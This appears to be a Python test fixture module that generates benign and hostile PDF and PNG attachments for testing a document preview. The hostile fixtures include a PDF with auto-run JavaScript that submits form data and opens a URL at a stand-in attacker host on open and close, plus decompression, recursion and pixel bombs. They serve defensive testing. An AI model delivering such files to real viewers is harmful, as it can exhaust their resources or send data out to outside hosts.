"""Files that senders may attach, kind and hostile, as the desk's preview meets them."""

import zlib
from collections.abc import Sequence
from io import BytesIO
from typing import Final

from PIL import Image

RED: Final = (200, 16, 16)
GREEN: Final = (16, 160, 16)
_BLUE_SQUARE: Final = b"0 0 1 rg 10 10 80 80 re f"
EVIL: Final = "https://evil.example/"


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    held = BytesIO()
    held.write(b"%PDF-1.7\n")
    starts = []
    for number, each in enumerate(objects, 1):
        starts.append(held.tell())
        held.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    at = held.tell()
    held.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    held.writelines(b"%010d 00000 n \n" % start for start in starts)
    held.write(b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at))
    return held.getvalue()


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream, and what its dictionary says beside the length."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def of_pages(contents: Sequence[bytes], *, size: int = 100, catalogue: bytes = b"", resources: bytes = b"") -> bytes:
    """A PDF of square pages with these contents."""
    kids = b" ".join(b"%d 0 R" % (3 + 2 * at) for at in range(len(contents)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Count %d /Kids [%s] /MediaBox [0 0 %d %d] /Resources << %s >> >>"
        % (len(contents), kids, size, size, resources),
    ]
    for at, content in enumerate(contents):
        objects += [b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R >>" % (4 + 2 * at), stream(content)]
    return pdf(*objects)


def _filled(colour: tuple[int, int, int]) -> bytes:
    return b"%.3f %.3f %.3f rg 0 0 100 100 re f" % (colour[0] / 255, colour[1] / 255, colour[2] / 255)


TWO_PAGES: Final = of_pages([_filled(RED), _filled(GREEN)])

WITH_SCRIPT: Final = of_pages(
    [_filled(RED)],
    catalogue=b"/OpenAction << /S /JavaScript /JS (app.alert('x'); app.launchURL('%s'); this.submitForm('%s');) >> "
    b"/AA << /WC << /S /URI /URI (%s) >> >>" % ((EVIL.encode(),) * 3),
)
"""Its script runs when it is opened, and when it is closed."""

MANY_PAGES: Final = 10_000


def many_pages() -> bytes:
    """A PDF of 10,000 pages, which is 1 MB."""
    return of_pages([_filled(RED)] * MANY_PAGES)


def endless() -> bytes:
    """A PDF of 3 KB that asks for 20 to the power of 12 drawings: each form draws the next one twenty times."""
    depth, times = 12, 20
    first = 5
    forms = [
        stream(
            b"/F Do " * times if at < depth - 1 else _BLUE_SQUARE,
            b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /F %d 0 R >> >>"
            % (first + at + 1),
        )
        for at in range(depth)
    ]
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 100 100] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /F %d 0 R >> >> >>" % first,
        stream(b"/F Do " * times),
        *forms,
    )


def swollen() -> bytes:
    """A PDF of 1 KB whose page is 100 MB of spaces, packed twice, before what it draws."""
    content = b" " * 100_000_000 + _filled(RED)
    packed = zlib.compress(zlib.compress(content, 9), 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 100 100] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        stream(packed, b"/Filter [/FlateDecode /FlateDecode]"),
    )


def huge_picture_in_pdf() -> bytes:
    """A PDF whose picture has 900 million points, over a red page."""
    side = 30_000
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 100 100] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
        stream(_filled(RED) + b" q 100 0 0 100 0 0 cm /I Do Q"),
        stream(
            zlib.compress(bytes(side * side // 8), 9),
            b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
            b"/Filter /FlateDecode" % (side, side),
        ),
    )


def huge_png() -> bytes:
    """A PNG of 110 KB and 900 million points."""
    side = 30_000
    row = bytes(1 + side // 8)
    header = side.to_bytes(4) * 2 + bytes((1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(held).to_bytes(4) + kind + held + zlib.crc32(kind + held).to_bytes(4)
        for kind, held in ((b"IHDR", header), (b"IDAT", zlib.compress(row * side, 9)), (b"IEND", b""))
    )


def photograph(width: int = 300, height: int = 200, form: str = "JPEG") -> bytes:
    """A green picture."""
    held = BytesIO()
    Image.new("RGB", (width, height), GREEN).save(held, form)
    return held.getvalue()
